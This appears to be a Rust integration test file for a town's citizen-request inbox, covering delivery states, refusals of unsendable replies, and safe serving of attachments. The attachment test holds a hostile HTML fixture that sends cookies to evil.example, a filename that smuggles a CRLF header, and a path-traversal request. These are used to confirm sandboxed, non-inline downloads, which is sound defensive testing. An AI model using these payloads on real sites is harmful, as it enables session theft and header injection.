//! The conversation is the whole story: every outbound message appears in a
//! thread with the text it carries and where its delivery stands, before
//! and after it is sent; a message that could never leave is refused or
//! raises an alarm.

use chrono::Duration;
use inbox::auth::Role;
use serde_json::{json, Value};

use crate::both_engines;
use crate::helpers::{email_message, spawn_app_with, AppOptions, Engine};
use crate::workspace::{account, t0, workspace};

/// The thread's outbound entries as `(outbound_kind, delivery_state, body_text)`.
fn outbound(detail: &Value) -> Vec<(String, String, String)> {
    detail["messages"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|m| m["direction"] == "outbound")
        .map(|m| {
            (
                m["outbound_kind"].as_str().unwrap().to_owned(),
                m["delivery_state"].as_str().unwrap().to_owned(),
                m["body_text"].as_str().unwrap().to_owned(),
            )
        })
        .collect()
}

async fn whole_story(engine: Engine) {
    // Arrange: a citizen's email, acknowledged but not sent yet.
    let ws = workspace(engine).await;
    let thread = ws
        .email(
            0,
            "citoyen@exemple.ca",
            "Déneigement",
            "La rue des Érables n'est pas déneigée.",
        )
        .await;

    // Act: read the thread before and after the acknowledgement goes out,
    // then after a reply is queued and sent.
    let queued = ws.thread(&thread).await;
    ws.app.run_pending_jobs().await;
    let acknowledged = ws.thread(&thread).await;
    let (status, reply) = ws
        .post(
            Some(&ws.agent),
            &format!("/api/v1/threads/{thread}/replies"),
            &json!({"body": "Bonjour, une équipe passera demain matin."}),
        )
        .await;
    let replied = ws.thread(&thread).await;
    ws.app.set_now(t0() + Duration::minutes(5));
    ws.app.run_pending_jobs().await;
    let answered = ws.thread(&thread).await;

    // Assert
    let reference = queued["thread"]["reference"].as_str().unwrap();
    let ack = outbound(&queued);
    assert_eq!(ack.len(), 1, "{ack:?}");
    assert_eq!(
        (ack[0].0.as_str(), ack[0].1.as_str()),
        ("acknowledgement", "pending")
    );
    assert!(
        ack[0].2.contains(reference),
        "the text as it will be sent: {}",
        ack[0].2
    );
    let sent = outbound(&acknowledged);
    assert_eq!(sent.len(), 1, "once, not as queued and as sent: {sent:?}");
    assert_eq!(sent[0].1, "sent");
    assert!(sent[0].2.contains(reference));
    assert_eq!(status, 202, "{reply}");
    let pending_reply = outbound(&replied);
    assert_eq!(pending_reply.len(), 2);
    assert_eq!(
        pending_reply[1],
        (
            "agent_reply".to_owned(),
            "pending".to_owned(),
            "Bonjour, une équipe passera demain matin.".to_owned()
        )
    );
    let done = outbound(&answered);
    assert_eq!(done.len(), 2, "{done:?}");
    assert_eq!(done[1].1, "sent");
    assert_eq!(done[1].2, "Bonjour, une équipe passera demain matin.");
    // In time order: the citizen, our acknowledgement, our reply.
    let directions: Vec<&str> = answered["messages"]
        .as_array()
        .unwrap()
        .iter()
        .map(|m| m["direction"].as_str().unwrap())
        .collect();
    assert_eq!(directions, vec!["inbound", "outbound", "outbound"]);
}
both_engines!(
    every_message_sent_shows_in_the_conversation_with_its_text_and_delivery_state,
    whole_story
);

async fn no_sender(engine: Engine) {
    // Arrange: a gateway with no email sender configured.
    let app = spawn_app_with(
        engine,
        AppOptions {
            now: Some(t0()),
            connectors: Vec::new(),
            ..AppOptions::default()
        },
    )
    .await;
    let agent = account(&app, "agente@saintejulie.ca", Role::Agent).await;
    let mut message = email_message(
        "citoyen@exemple.ca",
        "Collecte",
        "Le bac n'a pas été ramassé.",
        "sans-canal-1@poste.example.net",
    );
    message.received_at = t0();
    let thread = app.ingest(&message).await.thread_id.to_string();
    let get = |path: String| {
        let req = app
            .client
            .get(format!("{}{path}", app.address))
            .bearer_auth(&agent);
        async move { req.send().await.unwrap().json::<Value>().await.unwrap() }
    };

    // Act
    let thread_detail = get(format!("/api/v1/threads/{thread}")).await;
    let ready = get("/readyz".to_owned()).await;
    let reply = app
        .client
        .post(format!("{}/api/v1/threads/{thread}/replies", app.address))
        .bearer_auth(&agent)
        .json(&json!({"body": "Réponse qui ne partirait jamais."}))
        .send()
        .await
        .unwrap();
    let reply_status = reply.status().as_u16();
    let reply_body: Value = reply.json().await.unwrap();

    // Assert: shown as undeliverable, an alarm raised, the reply refused.
    let ack = outbound(&thread_detail);
    assert_eq!(ack.len(), 1);
    assert_eq!(ack[0].1, "waiting_channel");
    assert!(
        ready["alarms"]
            .as_array()
            .unwrap()
            .iter()
            .any(|a| a["kind"] == "outbox_waiting_channel"),
        "{ready}"
    );
    assert_eq!(reply_status, 409, "{reply_body}");
    assert_eq!(reply_body["code"], "channel_not_configured");
    let after = get(format!("/api/v1/threads/{thread}")).await;
    assert_eq!(outbound(&after).len(), 1, "nothing queued");
}
both_engines!(
    an_undeliverable_message_is_shown_alarmed_and_no_reply_is_queued_behind_it,
    no_sender
);

async fn phone_only(engine: Engine) {
    // Arrange: a request taken by phone from a citizen with no email.
    let ws = workspace(engine).await;
    let (status, recorded) = ws
        .post(
            Some(&ws.agent),
            "/api/v1/contacts-log",
            &json!({
                "channel": "phone", "name": "Gilles Ouellet", "phone": "450 555-0142",
                "text": "Un arbre est tombé sur le trottoir rue Bellevue.",
                "outcome": "request",
            }),
        )
        .await;
    assert_eq!(status, 201, "{recorded}");
    let thread = recorded["thread_id"].as_str().unwrap().to_owned();

    // Act
    let before = ws.thread(&thread).await;
    let reply = ws
        .post(
            Some(&ws.agent),
            &format!("/api/v1/threads/{thread}/replies"),
            &json!({"body": "Nous envoyons une équipe."}),
        )
        .await;

    // Assert: no reply box promised, and no email to nobody queued.
    assert_eq!(before["reply_options"]["reachable"], false);
    assert_eq!(reply.0, 409, "{}", reply.1);
    assert_eq!(reply.1["code"], "no_email_address");
    assert!(outbound(&ws.thread(&thread).await).is_empty());
}
both_engines!(
    a_phone_only_citizen_gets_a_callback_not_an_email_to_nobody,
    phone_only
);

async fn attachments(engine: Engine) {
    // Arrange: an email with a photo and a hostile HTML file.
    let ws = workspace(engine).await;
    let png: Vec<u8> = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\x01\0\0\0\x01\x08\x02\0\0\0".to_vec();
    let html = b"<html><script>document.location='https://evil.example/'+document.cookie</script>"
        .to_vec();
    let file = |name: &str, content_type: &str, bytes: &[u8]| models::Attachment {
        filename: Some(name.to_owned()),
        content_type: content_type.to_owned(),
        size_bytes: Some(bytes.len() as u64),
        sha256: None,
        content: models::AttachmentContent::Inline {
            bytes: bytes.to_vec(),
        },
    };
    let mut message = email_message(
        "photo@exemple.ca",
        "Nid-de-poule",
        "Voici une photo du trou.",
        "piece-jointe-1@poste.example.net",
    );
    message.received_at = t0();
    message.attachments = vec![
        file("trou rue Léger.png", "image/png", &png),
        file("facture\r\nX-Evil: 1.html", "text/html", &html),
    ];
    let thread = ws.app.ingest(&message).await.thread_id.to_string();
    let thread_detail = ws.thread(&thread).await;
    let ids: Vec<String> = thread_detail["messages"][0]["attachments"]
        .as_array()
        .unwrap()
        .iter()
        .map(|a| a["id"].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(ids.len(), 2, "{thread_detail}");
    let fetch = |path: String, token: Option<String>| {
        let mut req = ws.app.client.get(format!("{}{path}", ws.app.address));
        if let Some(token) = token {
            req = req.bearer_auth(token);
        }
        async move { req.send().await.unwrap() }
    };
    let agent = Some(ws.agent.clone());

    // Act
    let photo = fetch(format!("/api/v1/attachments/{}", ids[0]), agent.clone()).await;
    let preview = fetch(
        format!("/api/v1/attachments/{}?preview=1", ids[0]),
        agent.clone(),
    )
    .await;
    let page = fetch(
        format!("/api/v1/attachments/{}?preview=1", ids[1]),
        agent.clone(),
    )
    .await;
    let anonymous = fetch(format!("/api/v1/attachments/{}", ids[0]), None).await;
    let unknown = fetch(
        format!("/api/v1/attachments/{}", uuid::Uuid::now_v7()),
        agent.clone(),
    )
    .await;
    let garbage = fetch(
        "/api/v1/attachments/..%2F..%2Fetc".to_owned(),
        agent.clone(),
    )
    .await;
    // The workspace's own route, behind a session, keeps the same headers.
    let cookie = crate::helpers::session_cookie(
        &crate::helpers::sign_in(
            &ws.app,
            "agente@saintejulie.ca",
            "un mot de passe assez long",
        )
        .await,
    );
    let staff_route = ws
        .app
        .client
        .get(format!(
            "{}/agent/attachments/{}?preview=1",
            ws.app.address, ids[1]
        ))
        .header("cookie", &cookie)
        .send()
        .await
        .unwrap();

    // Assert
    let header = |r: &reqwest::Response, name: &str| {
        r.headers()
            .get(name)
            .map(|v| v.to_str().unwrap().to_owned())
            .unwrap_or_default()
    };
    assert_eq!(photo.status(), 200);
    assert_eq!(header(&photo, "content-type"), "image/png");
    assert!(header(&photo, "content-disposition").starts_with("attachment;"));
    assert!(header(&photo, "content-disposition")
        .contains("filename*=UTF-8''trou%20rue%20L%C3%A9ger%2Epng"));
    assert_eq!(header(&photo, "x-content-type-options"), "nosniff");
    assert!(header(&preview, "content-disposition").starts_with("inline;"));
    assert_eq!(photo.bytes().await.unwrap().to_vec(), png);
    assert_eq!(page.status(), 200);
    assert_eq!(header(&page, "content-type"), "application/octet-stream");
    let disposition = header(&page, "content-disposition");
    assert!(
        disposition.starts_with("attachment;"),
        "never inline: {disposition}"
    );
    assert!(!disposition.contains('\r') && !disposition.contains('\n'));
    assert_eq!(header(&page, "x-content-type-options"), "nosniff");
    assert!(header(&page, "content-security-policy").contains("sandbox"));
    assert_eq!(anonymous.status(), 401);
    assert_eq!(unknown.status(), 404);
    assert_eq!(garbage.status(), 404);
    assert_eq!(staff_route.status(), 200);
    assert_eq!(
        header(&staff_route, "content-type"),
        "application/octet-stream"
    );
    assert!(header(&staff_route, "content-disposition").starts_with("attachment;"));
    assert!(
        header(&staff_route, "content-security-policy").contains("sandbox"),
        "the staff pages' policy must not replace the attachment's sandbox"
    );
}
both_engines!(
    staff_download_attachments_with_safe_headers_and_strangers_cannot,
    attachments
);
